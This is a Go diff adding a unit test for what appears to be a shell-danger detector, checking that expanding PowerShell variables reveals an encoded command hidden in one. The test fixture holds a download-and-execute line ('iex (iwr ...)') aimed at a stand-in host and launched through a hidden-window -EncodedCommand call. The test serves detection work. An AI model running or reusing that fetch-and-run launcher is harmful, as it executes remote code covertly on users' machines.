@@ -246,3 +246,21 @@ func TestLocalHost(t *testing.T) {
 		}
 	}
 }
+
+// TestExpandPSVars covers a PowerShell script whose encoded command is
+// kept in a variable: the expanded script shows it to ShellDanger.
+func TestExpandPSVars(t *testing.T) {
+	enc := encodePS("iex (iwr https://x.invalid/p.ps1)")
+	script := "$ErrorActionPreference = 'SilentlyContinue'\n$policy = '" + enc + "'\npowershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand $policy\n"
+	if ShellDanger(script) != "" {
+		t.Fatalf("ShellDanger found the command before expansion: the test shows nothing")
+	}
+	got := ExpandPSVars(script)
+	if !strings.Contains(got, "-EncodedCommand "+enc) || ShellDanger(got) == "" {
+		t.Errorf("ExpandPSVars = %q, ShellDanger %q", got, ShellDanger(got))
+	}
+	// a variable set at run time stays a reference
+	if got := ExpandPSVars("$p = Get-Content a.txt\nrun $p\n"); got != "$p = Get-Content a.txt\nrun $p\n" {
+		t.Errorf("ExpandPSVars of a run-time value = %q", got)
+	}
+}
